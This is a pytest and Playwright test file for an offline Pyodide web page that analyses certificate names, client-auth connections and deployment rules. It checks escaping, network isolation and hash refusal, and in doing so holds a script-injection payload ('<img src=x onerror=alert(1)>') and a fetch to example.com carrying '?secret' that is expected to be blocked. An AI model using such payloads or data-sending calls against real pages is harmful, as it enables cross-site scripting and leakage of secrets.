"""The page of `make lite` in Chromium without network: Pyodide starts once, and every question is asked of it."""

from __future__ import annotations

import functools
import http.server
import sys
import threading
from collections.abc import Iterator
from importlib import import_module
from pathlib import Path
from urllib.parse import urlparse

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Route, expect

from tests.support.places import ARTIFACTS, ROOT

pytestmark = [pytest.mark.needs("chromium"), pytest.mark.needs("npm"), pytest.mark.xdist_group("lite")]
HOSTILE = "DNS:<img src=x onerror=alert(1)>"


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        """Print nothing."""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page, built from npm and PyPI; .cache/lite keeps what they gave."""
    sys.path.insert(0, str(ROOT / "deploy" / "lite"))
    builder = import_module("build_lite")
    sys.path.pop(0)
    out = tmp_path_factory.mktemp("lite") / "lite"
    builder.build(out)
    return out


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def _only_here(page: Page, address: str) -> list[str]:
    """Cut the page off from everything but its own server; the addresses that it asked for elsewhere."""
    elsewhere: list[str] = []

    def route(found: Route) -> None:
        if urlparse(found.request.url).netloc == urlparse(address).netloc:
            found.continue_()
        else:
            elsewhere.append(found.request.url)
            found.abort()

    page.context.route("**/*", route)
    return elsewhere


def _tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name).click()


def _headline(page: Page) -> str:
    shown = page.locator("[role=tabpanel]:not([hidden]) .headline")
    expect(shown).to_be_visible()
    return shown.inner_text()


def _looks_right(page: Page, name: str) -> None:
    """Axe finds nothing, and nothing is wider than the window: wide and light, narrow and dark."""
    for width, scheme in ((1440, "light"), (390, "dark")):
        page.set_viewport_size({"width": width, "height": 900})
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        page.screenshot(path=ARTIFACTS / f"lite-{name}-{width}-{scheme}.png", full_page=True)
        found = Axe().run(page)
        assert found.violations_count == 0, found.generate_report()
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_page_answers_every_question_without_network(chromium: Browser, address: str) -> None:
    page = chromium.new_page(viewport={"width": 1440, "height": 900})
    elsewhere = _only_here(page, address)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(address)
    expect(page.locator("#status")).to_contain_text("Ready after")
    assert said == []
    page.context.set_offline(True)  # not even its own server: everything is loaded

    page.get_by_role("tab", name="Names").focus()
    for key in ("Tab", "Tab"):  # the form, then its button
        page.keyboard.press(key)
    page.keyboard.press("Enter")
    assert _headline(page) == "4 certificates for clustered-mra"
    assert "secure.profiles.corp.example.com" in page.locator("#san table").first.inner_text()
    _looks_right(page, "names")

    page.set_viewport_size({"width": 1440, "height": 900})
    page.get_by_role("tab", name="Names").focus()
    page.keyboard.press("ArrowRight")
    page.get_by_role("button", name="Copy today's file").click()
    new = page.get_by_label("Tomorrow's file (YAML)")
    new.fill(new.input_value().replace("registration: [example.com]", "registration: [example.com, example.org]"))
    page.get_by_role("button", name="Compare").click()
    assert _headline(page) == "2 of 4 peers need a new certificate"

    _tab(page, "Match")
    page.get_by_label("Names in the certificate").fill(f"{HOSTILE}\nDNS:e1.example.com")
    page.get_by_role("button", name="Match").click()
    assert _headline(page) == "✘ The certificate does not have the name example.com"
    assert "<img src=x onerror=alert(1)>" in page.locator("#match .answer").inner_text()
    assert page.locator("img").count() == 0

    _tab(page, "clientAuth")
    page.get_by_role("button", name="Audit").click()
    assert _headline(page) == "✘ 22 of 28 connections with client certificates fail"
    _looks_right(page, "clientauth")

    _tab(page, "Rules")
    page.get_by_label("Word to look for").fill("wildcard")
    page.get_by_role("button", name="List the rules").click()
    assert "names.wildcard-unsupported" in page.locator("#rules table").inner_text()

    page.get_by_label("Deployment file (YAML)").fill("name: [x")
    _tab(page, "Names")
    page.get_by_role("button", name="Show the names").click()
    expect(page.locator("#san [role=alert]")).to_contain_text("deployment.yaml, line 1: is not YAML")

    _tab(page, "Certificate file")
    page.context.set_offline(False)
    # The worker has the policy of the page: Python cannot send anything elsewhere. A request would be in `elsewhere`.
    send = "() => fetch('https://example.com/?secret').then(() => 'sent', () => 'refused')"
    assert page.workers[0].evaluate(send) == "refused"
    assert elsewhere == []
    page.get_by_role("button", name="Load it from cdn.jsdelivr.net").click()
    expect(page.locator("#add-status")).to_contain_text("cryptography could not be loaded from cdn.jsdelivr.net")
    assert {urlparse(url).path.rpartition("/")[0] for url in elsewhere} == {"/pyodide/v314.0.7/full"}
    assert any("/cryptography-" in url for url in elsewhere)
    _looks_right(page, "file")
    page.context.close()


def test_page_refuses_a_file_whose_hash_differs(chromium: Browser, address: str, folder: Path) -> None:
    package = folder / "packages" / "pkikit.zip"
    whole = package.read_bytes()
    package.write_bytes(whole + b"\0")
    try:
        page = chromium.new_page()
        page.goto(address)
        expect(page.locator("#status")).to_contain_text("The page could not start")
    finally:
        package.write_bytes(whole)
    page.context.close()
